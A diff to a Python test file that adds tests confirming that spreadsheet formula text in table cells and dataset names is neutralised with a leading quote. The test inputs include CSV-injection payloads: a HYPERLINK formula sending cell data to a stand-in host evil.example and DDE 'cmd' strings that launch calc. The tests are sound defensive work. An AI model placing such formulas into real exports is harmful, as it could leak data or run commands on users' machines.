@@ -30,7 +30,7 @@ from storage.settings import Settings
 from storage.text import NAME_MAX, NOTES_MAX
 from tests.accounts import make_user
 from tests.drafts import new_draft, start_options
-from ui.text import plain, plain_html
+from ui.text import cell, cells, plain, plain_html
 
 ROOT = Path(__file__).resolve().parents[2]
 GOOD = "a-good-password"
@@ -244,6 +244,15 @@ def test_a_failed_predictions_reason_is_shown_to_other_users_as_text(app_data_di
     assert "http://" not in "".join(shown) and "![" not in "".join(shown)
 
 
+def test_table_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not():
+    formulas = ['=HYPERLINK("http://evil.example/?"&A2,"report")', "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
+                "@SUM(1+1)", "\t=1+1", "\r=1"]
+    assert [cell(f) for f in formulas] == ["'" + f for f in formulas]
+    for kept in ["-0.25", "+3", "-1e-3", "12%", "stack-1", "—", "a=b", "", 5, -2.5, None]:
+        assert cell(kept) == kept
+    assert cells([{"name": "=1+1", "n": -1}]) == [{"name": "'=1+1", "n": -1}]
+
+
 def test_a_hostile_dataset_name_is_shown_as_text_on_the_datasets_page(app_data_dir):
     svc = Neuroseg(Settings.from_env(app_data_dir), supervise=False)
     demo = svc.load_demo()
@@ -257,6 +266,10 @@ def test_a_hostile_dataset_name_is_shown_as_text_on_the_datasets_page(app_data_d
              for e in getattr(at, kind)]
     shown += [str(getattr(e, "label", "") or "") for e in _walk(at.main)]
     assert any(plain(EVIL) in s for s in shown), "the warning before a delete names it, escaped"
+    svc.update(demo.id, name="=HYPERLINK(\"http://evil.example\")")
+    at.run()
+    table = next(d.value for d in at.dataframe if "name" in d.value.columns)
+    assert table["name"].tolist() == ["'=HYPERLINK(\"http://evil.example\")"]  # (as its CSV download writes it)
     assert not [s for s in shown if "![" in s or "](" in s]
     svc.close()
 
